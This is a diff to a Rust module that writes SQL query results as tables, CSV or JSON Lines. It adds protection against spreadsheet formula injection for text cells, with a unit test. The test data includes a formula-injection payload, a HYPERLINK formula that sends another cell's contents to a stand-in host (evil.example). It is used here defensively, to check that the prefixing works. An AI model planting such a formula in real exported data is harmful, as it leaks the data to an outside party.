@@ -1,12 +1,14 @@
 //! A `sql` answer as text: an aligned table for a terminal, RFC 4180 CSV with a header line
-//! (quoted as `export` quotes), or JSON Lines (one object per row, every column, NULL as
-//! `null`). Values print as the engine displays them: times as RFC 3339 in UTC, binary columns
-//! (the raw address and MAC forms of `flows_raw`) as hex.
+//! (quoted as `export` quotes, a text cell a spreadsheet would run as a formula prefixed with
+//! `'` as `export` does, [`csv_text`]; numbers, times and the other types as they are), or
+//! JSON Lines (one object per row, every column, NULL as `null`, exact values). Values print
+//! as the engine displays them: times as RFC 3339 in UTC, binary columns (the raw address and
+//! MAC forms of `flows_raw`) as hex.
 
 use std::io::Write;
 
 use datafusion::arrow::array::RecordBatch;
-use datafusion::arrow::datatypes::SchemaRef;
+use datafusion::arrow::datatypes::{DataType, SchemaRef};
 use datafusion::arrow::error::ArrowError;
 use datafusion::arrow::json::writer::{LineDelimited, WriterBuilder};
 use datafusion::arrow::util::display::{ArrayFormatter, FormatOptions};
@@ -15,7 +17,7 @@ use datafusion::arrow::util::pretty::{
 };
 
 use super::SqlError;
-use crate::store::export::{csv_field, Format};
+use crate::store::export::{csv_field, csv_text, Format};
 
 /// Rows of a table aligned together: a longer answer is printed as several tables of this
 /// many rows, so memory stays bounded however many rows come (CSV and JSON Lines stream).
@@ -137,6 +139,9 @@ impl<'a> Writer<'a> {
             .map(|c| ArrayFormatter::try_new(c.as_ref(), &options))
             .collect::<Result<Vec<_>, _>>()
             .map_err(arrow_err)?;
+        let text: Vec<bool> = (batch.schema().fields().iter())
+            .map(|f| is_text(f.data_type()))
+            .collect();
         let mut line = Vec::new();
         let mut cell = String::new();
         for row in 0..batch.num_rows() {
@@ -149,7 +154,11 @@ impl<'a> Writer<'a> {
                 use std::fmt::Write as _;
                 write!(cell, "{}", c.value(row))
                     .map_err(|e| SqlError::Output(std::io::Error::other(e)))?;
-                csv_field(&mut line, &cell);
+                if text[i] {
+                    csv_text(&mut line, &cell);
+                } else {
+                    csv_field(&mut line, &cell);
+                }
             }
             line.push(b'\n');
             self.out.write_all(&line).map_err(SqlError::Output)?;
@@ -158,10 +167,21 @@ impl<'a> Writer<'a> {
     }
 }
 
+/// Whether a column holds text (a string, or a dictionary of strings): the cells CSV guards
+/// against formulas. A number (`-5`), a time or a binary column's hex is written as it is.
+fn is_text(t: &DataType) -> bool {
+    match t {
+        DataType::Utf8 | DataType::LargeUtf8 | DataType::Utf8View => true,
+        DataType::Dictionary(_, values) => is_text(values),
+        _ => false,
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
-    use datafusion::arrow::array::Int64Array;
+    use datafusion::arrow::array::{DictionaryArray, Int64Array, StringArray};
+    use datafusion::arrow::datatypes::Int32Type;
     use datafusion::arrow::datatypes::{DataType, Field, Schema};
     use std::sync::Arc;
 
@@ -195,5 +215,55 @@ mod tests {
             .filter(|l| l.trim_matches(|c| c == '|' || c == ' ') == "n")
             .count();
         assert_eq!(headers, 3, "three tables: {}", &text[..200]);
+    }
+
+    /// A text cell a spreadsheet would run (`=`, `+`, `-`, `@`, TAB, CR first) is written
+    /// with a `'` first, as `export` writes it; a negative number is not text and stays a
+    /// number. JSON Lines keeps the exact text.
+    #[test]
+    fn csv_text_cells_that_look_like_formulas_are_prefixed_numbers_are_not() {
+        let schema = Arc::new(Schema::new(vec![
+            Field::new("n", DataType::Int64, false),
+            Field::new("s", DataType::Utf8, false),
+            Field::new(
+                "d",
+                DataType::Dictionary(Box::new(DataType::Int32), Box::new(DataType::Utf8)),
+                false,
+            ),
+        ]));
+        let s = StringArray::from(vec![
+            "-5",
+            "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")",
+            "ok-1",
+        ]);
+        let d: DictionaryArray<Int32Type> = vec!["@SUM(A1)", "\tx", "plain"].into_iter().collect();
+        let batch = RecordBatch::try_new(
+            schema.clone(),
+            vec![
+                Arc::new(Int64Array::from(vec![-5, 7, -1])),
+                Arc::new(s),
+                Arc::new(d),
+            ],
+        )
+        .expect("batch");
+        let answer = |format| {
+            let mut out = Vec::new();
+            let mut w = Writer::new(&mut out, format, schema.clone());
+            w.write(&batch).expect("write");
+            w.finish().expect("finish");
+            String::from_utf8(out).expect("utf-8")
+        };
+        assert_eq!(
+            answer(Format::Csv),
+            "n,s,d\n\
+             -5,'-5,'@SUM(A1)\n\
+             7,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"x\"\")\",'\tx\n\
+             -1,ok-1,plain\n"
+        );
+        let json = answer(Format::Jsonl);
+        assert!(
+            json.starts_with("{\"n\":-5,\"s\":\"-5\",\"d\":\"@SUM(A1)\"}\n"),
+            "{json}"
+        );
     }
 }
